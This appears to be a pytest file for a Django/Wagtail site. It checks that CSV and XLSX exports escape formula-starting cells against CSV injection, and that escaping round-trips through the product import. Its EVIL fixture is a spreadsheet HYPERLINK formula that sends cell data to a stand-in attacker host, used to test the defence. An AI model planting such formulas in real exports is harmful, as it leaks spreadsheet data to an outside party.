"""CSV injection: no exported cell runs as a formula (ours and Wagtail's), and our own export's
escape is taken off again when the file comes back through the import."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cms.models import HomePage
from marketplace import imports
from privacy.spreadsheets import FORMULA_START, escape_formula, unescape_formula
from tests.factories import UserFactory
from tests.marketplace.factories import ProductFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@given(st.text())
def test_unescape_undoes_escape(text):
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_escaped(start):
    assert escape_formula(f"{start}1+1") == f"'{start}1+1"
    assert escape_formula("'" + start) == "''" + start
    assert escape_formula("Cà phê -50%") == "Cà phê -50%"
    assert escape_formula(15) == 15


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def evil_home():
    editor = UserFactory(is_staff=True, is_superuser=True)
    home = HomePage.objects.filter(locale__language_code="vi").first()
    home.title = EVIL
    home.save_revision(user=editor).publish(user=editor)
    return editor


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url", ["/admin/reports/site-history/?export=csv", "/admin/reports/aging-pages/?export=csv"]
)
def test_wagtail_report_csv_exports_escape_formulas(client, evil_home, url):
    client.force_login(evil_home)
    response = client.get(url)
    assert response.status_code == 200
    cells = [cell for row in _rows(b"".join(response.streaming_content)) for cell in row]
    assert "'" + EVIL in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.mark.django_db
def test_wagtail_report_xlsx_export_escapes_formulas(client, evil_home):
    client.force_login(evil_home)
    response = client.get("/admin/reports/site-history/?export=xlsx")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + EVIL in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_keeps_the_names_exactly(fmt):
    product = ProductFactory(name=EVIL, name_en="'=already quoted", description="-5 kg")
    body = imports.export_products(business=product.business, fmt=fmt)
    if fmt == "csv":
        exported = _rows(body)[1]
        assert exported[1] == "'" + EVIL
        assert exported[2] == "''=already quoted"
    upload = SimpleUploadedFile(f"products.{fmt}", body)
    report = imports.import_products(
        business=product.business, upload=upload, fmt=fmt, dry_run=False
    )
    assert report.errors == [] and report.updated == 1
    product.refresh_from_db()
    assert (product.name, product.name_en, product.description) == (
        EVIL,
        "'=already quoted",
        "-5 kg",
    )
